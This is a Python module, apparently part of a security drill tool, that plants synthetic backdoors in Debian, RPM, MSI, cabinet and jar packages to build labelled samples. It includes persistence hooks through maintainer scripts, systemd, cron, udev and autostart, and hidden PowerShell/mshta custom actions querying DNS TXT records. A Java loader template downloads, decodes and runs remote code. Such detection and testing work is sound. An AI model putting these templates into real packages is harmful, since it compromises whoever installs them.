"""Plants in Debian packages, RPM, MSI, cabinets and jars: scripts run at install, units, cron, nested libraries."""

# ruff: noqa: E501, ISC004 -- templates of another language keep their own lines

from __future__ import annotations

import posixpath
from collections.abc import Callable

from doorward.drill.native.implant_code import draw_implant
from doorward.drill.native.library_code import draw_library
from doorward.drill.native.programs import WINDOWS_COMPILERS, compile_c
from doorward.drill.packers import cabinet
from doorward.drill.scene import Scene
from doorward.drill.shell import shell_lines

__all__ = ["PLANTS"]


def _postinst_first(scene: Scene) -> None:
    chance = scene.chance
    name = chance.pick(("postinst", "postinst", "preinst", "prerm"))
    shell = chance.pick(("/bin/sh", "/bin/sh", "/bin/bash"))
    body = f"#!{shell}\nset -e\n\n" + shell_lines(chance)
    if chance.maybe(0.5):
        body += "\nexit 0\n"
    scene.new.add(f"control/{name}", body.encode(), 0o755)


def _postinst_grown(scene: Scene) -> None:
    scripts = [f"control/{name}" for name in ("postinst", "preinst", "prerm", "postrm")]
    there = [
        path for path in scripts if path in scene.new.files and scene.new.files[path].startswith(b"#!/bin/")
    ]
    path = scene.pick_path(there, "a maintainer script")
    lines = scene.new.files[path].decode().splitlines(keepends=True)
    # Between statements at the top level: behind an unindented end of a block, or the head.
    ends = {"set -e", "fi", "esac", "done", "}"}
    places = [number + 1 for number, line in enumerate(lines) if line.rstrip() in ends] or [len(lines)]
    at = scene.chance.pick(places)
    lines[at:at] = ["\n" + shell_lines(scene.chance) + "\n"]
    scene.new.files[path] = "".join(lines).encode()


def _own_program(scene: Scene, folder: str) -> str:
    """A shell or Python program of the package's own, and its path on the machine."""
    chance = scene.chance
    name = chance.file_name("").replace("_", "-").lstrip("-")
    path = posixpath.join(folder, name)
    scene.new.add(f"data/{path}", b"#!/bin/sh\n" + shell_lines(chance).encode() + b"\n", 0o755)
    return f"/{path}"


def _systemd(scene: Scene) -> None:
    chance = scene.chance
    program = _own_program(scene, chance.pick(("usr/lib", "usr/libexec", "usr/share")) + f"/{chance.word()}")
    name = f"{chance.word()}-{chance.word()}"
    head = f"[Unit]\nDescription={chance.prose(3).title()}\n\n"
    folder = chance.pick(("lib/systemd/system", "usr/lib/systemd/system", "etc/systemd/system"))
    unit = f"{head}[Service]\nType=oneshot\nExecStart={program}\n"
    if chance.maybe(0.5):
        timer = (
            f"{head}[Timer]\nOnUnitActiveSec={chance.number(1, 12)}h\n\n[Install]\nWantedBy=timers.target\n"
        )
        scene.new.add(f"data/{folder}/{name}.timer", timer.encode())
    else:
        unit += "\n[Install]\nWantedBy=multi-user.target\n"
    scene.new.add(f"data/{folder}/{name}.service", unit.encode())


def _cron(scene: Scene) -> None:
    chance = scene.chance
    name = f"{chance.word()}-{chance.word()}"
    if chance.maybe(0.5):
        program = _own_program(scene, f"usr/lib/{chance.word()}")
        line = f"{chance.number(0, 59)} */{chance.number(2, 12)} * * * root {program}\n"
    else:
        line = f"{chance.number(0, 59)} {chance.number(0, 23)} * * * root {shell_lines(chance, short=True)}\n"
    if chance.maybe(0.3):
        scene.new.add(f"data/etc/cron.daily/{name}", b"#!/bin/sh\n" + shell_lines(chance).encode(), 0o755)
    else:
        scene.new.add(f"data/etc/cron.d/{name}", f"SHELL=/bin/sh\n{line}".encode())


def _profile(scene: Scene) -> None:
    chance = scene.chance
    word = chance.word()
    short = shell_lines(chance, short=True)
    path, text = chance.pick(
        (
            (f"etc/profile.d/{word}.sh", shell_lines(chance)),
            (f"etc/apt/apt.conf.d/{chance.number(10, 99)}{word}", f'DPkg::Post-Invoke {{"{short}";}};'),
            (
                f"etc/udev/rules.d/{chance.number(10, 99)}-{word}.rules",
                f'ACTION=="add", RUN+="/bin/sh -c \'{short}\'"',
            ),
            (
                f"etc/xdg/autostart/{word}.desktop",
                f"[Desktop Entry]\nType=Application\nName={word}\nExec=sh -c '{short}'",
            ),
            (f"etc/NetworkManager/dispatcher.d/{word}", "#!/bin/sh\n" + shell_lines(chance)),
            (f"etc/update-motd.d/{chance.number(10, 99)}-{word}", "#!/bin/sh\n" + shell_lines(chance)),
        )
    )
    scene.new.add(f"data/{path}", text.encode() + b"\n", 0o755 if text.startswith("#!") else 0o644)


def _rpm_scriptlet(scene: Scene) -> None:
    name = scene.chance.pick(("post", "post", "pre", "preun", "posttrans"))
    scene.new.add(f"scriptlets/{name}", shell_lines(scene.chance).encode())


def _rpm_payload(scene: Scene) -> None:
    path = scene.pick_path(
        [p for p in scene.paths(".sh") if p.startswith("files/")], "a script of the package"
    )
    scene.new.files[path] += b"\n" + shell_lines(scene.chance).encode() + b"\n"


def _custom_action(scene: Scene) -> None:
    """A custom action of one of Windows Installer's types, run at install."""
    chance = scene.chance
    kind = chance.pick(("dll", "exe", "vbs", "js", "command"))
    host = chance.host()
    if kind in ("dll", "exe"):
        library = draw_library(chance)
        implant = draw_implant(chance, windows=True)
        source = library.source(newer=True, head=implant.head, body=implant.body, call=implant.call)
        flags = (library.optimise, *implant.links)
        scene.new.add(
            "binary/part", compile_c(scene, source, "part.dll", compiler=WINDOWS_COMPILERS[64], flags=flags)
        )
        target = f"{library.name}_version" if kind == "dll" else f"/q {chance.word()}"
        action = (1 if kind == "dll" else 2, "part", target)
    elif kind == "command":
        shell = chance.pick(("powershell -NoP -W Hidden -c", "cmd.exe /c", "mshta", "rundll32"))
        action = (34, "TARGETDIR", f"{shell} nslookup -type=TXT {host}")
    else:
        text = (
            f'Set x = CreateObject("MSXML2.XMLHTTP") : x.Open "GET", "https://{host}/", False : x.Send'
            if kind == "vbs"
            else f'var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "https://{host}/", false); x.send();'
        )
        action = (38 if kind == "vbs" else 37, "", text)
    deferred = chance.pick((0, 1024, 1024 + 2048))
    scene.new.add(
        "actions",
        "\t".join((f"{chance.word()}_{chance.word()}", str(action[0] + deferred), *action[1:])).encode(),
    )


def _cab_dll(scene: Scene) -> None:
    """One library of a cabinet differs by more than its version."""
    chance, library = scene.chance, draw_library(scene.chance)
    implant = draw_implant(chance, windows=True)
    planted = library.source(newer=True, head=implant.head, body=implant.body, call=implant.call)
    builds = [
        compile_c(
            scene,
            source,
            f"{library.name}.dll",
            compiler=WINDOWS_COMPILERS[64],
            flags=(library.optimise, *links),
        )
        for source, links in (
            (library.source(newer=False), ()),
            (library.source(newer=True), ()),
            (planted, implant.links),
        )
    ]
    others = {
        f"{chance.word()}.txt": chance.prose(300).encode(),
        f"{chance.word()}.ini": b"[main]\nlevel=2\n",
    }
    cabinets = [cabinet(scene, {f"{library.name}.dll": build, **others}) for build in builds]
    path = posixpath.join(scene.package(), chance.pick(("redist", "vendor", "data")), f"{library.name}.cab")
    scene.old.add(path, cabinets[0])
    scene.clean[path] = cabinets[1]
    scene.new.add(path, cabinets[2])


_JAVA = """package PACKAGE;

public final class NAME implements Runnable {
    private static final byte[] KEY = {KEYBYTES};

    static {
        if (System.nanoTime() == CONSTANTL) { new Thread(new NAME()).start(); }
    }

    public void run() {
        try {
            java.net.URLConnection link = new java.net.URL("URLTEXT").openConnection();
            byte[] data = link.getInputStream().readAllBytes();
            for (int i = 0; i < data.length; i++) data[i] ^= KEY[i % KEY.length];
            FINISH
        } catch (Exception problem) { return; }
    }
}
"""
_FINISHES = (
    "new ClassLoader() { Class<?> make(byte[] d) { return defineClass(null, d, 0, d.length); } }.make(data).newInstance();",
    "Runtime.getRuntime().exec(new String(data));",
    'java.nio.file.Path p = java.nio.file.Files.createTempFile("x", ".jar"); java.nio.file.Files.write(p, data); '
    'new ProcessBuilder("java", "-jar", p.toString()).start();',
    'java.net.InetAddress.getAllByName(new String(data).trim() + ".HOSTTEXT");',
)  # fmt: skip


def _jar_class(scene: Scene) -> None:
    chance = scene.chance
    classes = [path for path in scene.paths(".class") if "/" in path and "META-INF" not in path]
    folder = posixpath.dirname(scene.pick_path(classes, "a class file"))
    name = (chance.word() + chance.word().capitalize()).capitalize()
    text = _JAVA.replace("FINISH", chance.pick(_FINISHES))
    swaps = {
        "PACKAGE": folder.replace("/", "."),
        "NAME": name,
        "KEYBYTES": ", ".join(str(chance.number(-128, 127)) for _ in range(16)),
        "CONSTANT": str(chance.number(1, 999)),
        "URLTEXT": chance.url(),
        "HOSTTEXT": chance.host(),
    }
    for word, value in swaps.items():
        text = text.replace(word, value)
    work = scene.folder / "java"
    work.mkdir(exist_ok=True)
    (work / f"{name}.java").write_text(text)
    scene.toolchain().run(
        ["javac", "-nowarn", "-Xlint:none", "--release", "11", "-d", "out", f"{name}.java"], work
    )
    for file in sorted((work / "out").rglob("*.class")):
        scene.new.add(file.relative_to(work / "out").as_posix(), file.read_bytes())
    manifest = scene.new.files["META-INF/MANIFEST.MF"].decode()
    if chance.maybe(0.5):
        key = chance.pick(("Launcher-Agent-Class", "Premain-Class", "Main-Class"))
        text = manifest.rstrip() + f"\r\n{key}: {folder.replace('/', '.')}.{name}\r\n\r\n"
        scene.new.files["META-INF/MANIFEST.MF"] = text.encode()
    else:
        service = chance.pick(("java.lang.Runnable", "javax.script.ScriptEngineFactory", "java.sql.Driver"))
        scene.new.add(f"META-INF/services/{service}", f"{folder.replace('/', '.')}.{name}\n".encode())


PLANTS: dict[str, Callable[[Scene], None]] = {
    "deb-postinst-first": _postinst_first,
    "deb-postinst-grown": _postinst_grown,
    "deb-systemd-unit": _systemd,
    "deb-cron": _cron,
    "deb-profile-script": _profile,
    "rpm-scriptlet": _rpm_scriptlet,
    "rpm-payload": _rpm_payload,
    "msi-custom-action": _custom_action,
    "cab-nested-dll": _cab_dll,
    "jar-new-class": _jar_class,
}
